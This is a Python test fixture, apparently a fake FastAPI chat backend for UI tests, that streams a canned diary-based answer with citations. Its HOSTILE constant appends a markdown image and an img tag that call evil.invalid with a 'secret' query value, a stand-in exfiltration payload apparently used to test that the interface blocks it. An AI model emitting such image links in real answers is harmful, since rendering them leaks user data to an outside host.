"""Talks of the stand-in: an answer is told word by word and outlives the page."""

import asyncio
import json
import uuid
from collections.abc import AsyncIterator
from typing import Any

from fastapi import APIRouter
from fastapi.responses import JSONResponse, StreamingResponse

from tests.ui.fake_house import PACE, Run, house, now, problem
from tests.ui.invented import DIARY, Json, evidence

talking = APIRouter()
HOSTILE = "\n\n![](http://evil.invalid/leak.png?q=тайна) <img src=http://evil.invalid/x.png>"
ANSWER = (
    "Весной 2024 года на первом месте стояло **«Уйти из банка»** [1]. После увольнения в декабре его место "
    "заняла **«Открыть гончарную мастерскую»** [2]: сначала она была на паузе, потом вернулась [3]."
)
ENGLISH = "In the spring of 2024 **«Уйти из банка»** came first [1]; after December **«Открыть гончарную мастерскую»** took its place [2], first paused, then back [3]."
CITED = (DIARY[2], DIARY[5], DIARY[4])


@talking.get("/api/sessions")
async def sessions() -> Json:
    return {"items": [whole(id) for id in house.talks], "next": None}


def whole(id: str) -> Json:
    active = next(
        (run.id for run in house.runs.values() if run.session == id and not run.over), None
    )
    return {**house.talks[id], "active_run": active}


@talking.get("/api/sessions/{id}", response_model=None)
async def session(id: str) -> Json | JSONResponse:
    return whole(id) if id in house.talks else problem(404, "Такого разговора нет")


@talking.delete("/api/sessions/{id}", status_code=204)
async def drop(id: str) -> None:
    house.talks.pop(id, None)


@talking.post("/api/runs", status_code=202)
async def ask(body: dict[str, Any]) -> Json:
    question = body["messages"][-1]["content"]
    id = body.get("session_id") or uuid.uuid4().hex
    talk = house.talks.setdefault(
        id,
        {
            "id": id,
            "title": question[:60],
            "mode": "auto",
            "kind": "talk",
            "phase": None,
            "created": now(),
            "updated": now(),
            "digest": None,
            "messages": [],
        },
    )
    talk["messages"].append(turn("user", question))
    answer = ENGLISH if body.get("lang") == "en" else ANSWER
    run = Run(uuid.uuid4().hex, id, answer + HOSTILE)
    house.runs[run.id] = run
    task = asyncio.get_running_loop().create_task(speak(run))
    house.tasks.add(task)
    task.add_done_callback(house.tasks.discard)
    return {"run_id": run.id, "session_id": id}


def turn(role: str, content: str, **more: Any) -> Json:
    return {
        "id": uuid.uuid4().hex,
        "role": role,
        "content": content,
        "date": now(),
        "strategy": None,
        "citations": [],
        "feedback": None,
        **more,
    }


async def speak(run: Run) -> None:
    cites = [evidence(one) for one in CITED]
    strategy: Json = {"name": "answer", "reason": "вопрос о переменах во времени", "scores": {}}
    await run.tell("strategy", strategy)
    said = ""
    for word in run.answer.split(" "):
        if run.stopped:
            break
        await asyncio.sleep(PACE.token_delay)
        said += word + " "
        await run.tell("token", {"text": word + " "})
    house.talks[run.session]["messages"].append(
        turn("assistant", said, strategy=strategy, citations=cites)
    )
    await run.tell("citations", {"items": cites})
    await run.tell(
        "done",
        {
            "session_id": run.session,
            "message": {"role": "assistant", "content": said},
            "citations": cites,
        },
    )


@talking.get("/api/runs/{id}/events")
async def events(id: str, after: int = 0) -> StreamingResponse:
    async def stream() -> AsyncIterator[str]:
        run, n = house.runs[id], after
        while True:
            while n < len(run.events):
                event, data = run.events[n]
                n += 1
                yield f"id: {n}\nevent: {event}\ndata: {json.dumps(data, ensure_ascii=False)}\n\n"
                if event == "done":
                    return
            async with run.changed:
                if n >= len(run.events):
                    await run.changed.wait()

    return StreamingResponse(stream(), media_type="text/event-stream")


@talking.delete("/api/runs/{id}", status_code=204)
async def stop(id: str) -> None:
    house.runs[id].stopped = True
